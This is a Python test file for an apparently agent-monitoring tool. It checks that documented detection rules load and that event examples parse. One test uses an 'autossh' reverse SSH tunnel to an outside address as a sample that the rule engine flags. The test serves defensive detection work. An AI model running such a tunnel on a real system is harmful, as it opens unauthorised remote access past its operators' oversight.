"""The examples in docs/ run: rule files load and behave, event lines are accepted."""
import json
import re
from pathlib import Path

from vigiles.analysis.engine import Engine
from vigiles.analysis.rules import Loader
from vigiles.events import from_dict

DOCS = Path(__file__).resolve().parent.parent / "docs"


def blocks(name, lang):
    return re.findall(rf"```{lang}\n(.*?)```", (DOCS / name).read_text(), flags=re.S)


def test_rule_examples_load_and_detect():
    for text in blocks("rules.md", "yaml"):
        loader = Loader()
        loader.add_text(text, "docs/rules.md")
        ruleset = loader.build()
        assert ruleset.problems == [] and ruleset.rules
    engine = Engine(ruleset)
    hit = from_dict({"kind": "action", "ts": 0, "tool": "bash", "input": "autossh -M 0 -R 2222:localhost:22 u@198.51.100.9"})
    allowed = from_dict({"kind": "action", "ts": 0, "tool": "bash", "input": "ssh -R 2222:localhost:22 ops@bastion.lab.internal"})
    assert [f.rule for f in engine.analyze(hit)] == ["ssh_reverse_tunnel_example"]
    assert engine.analyze(allowed) == []


def test_event_examples_are_valid():
    first = blocks("events.md", "json")[0]
    events = [from_dict(json.loads(line)) for line in first.strip().splitlines()]
    assert [e.kind for e in events] == ["action", "process", "network", "gpu", "job", "file"]
